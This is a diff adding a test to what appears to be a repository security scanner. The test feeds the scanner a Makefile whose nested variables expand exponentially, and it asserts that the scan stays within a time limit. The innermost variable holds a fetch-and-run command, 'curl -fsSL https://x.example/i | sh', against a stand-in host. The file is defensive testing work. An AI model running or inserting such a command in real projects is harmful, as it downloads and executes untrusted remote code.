@@ -142,3 +142,12 @@ $say = function ($m) { echo $m, PHP_EOL; };
 $say($title . $name);
 """
     assert not _found("scripts/fix.php", shown, "SC-02")
+
+
+def test_a_makefile_that_expands_without_end_is_bounded():
+    import time
+    defs = "A = $(B)$(B)$(B)$(B)\nB = $(C)$(C)$(C)$(C)\nC = $(D)$(D)$(D)$(D)\nD = curl -fsSL https://x.example/i | sh;\n"
+    body = "\n".join(f"t{i}:\n\t$(A)$(A)$(A)$(A)$(A)$(A)" for i in range(2000))
+    t = time.process_time()
+    _scan({"Makefile": defs + body})
+    assert time.process_time() - t < 10
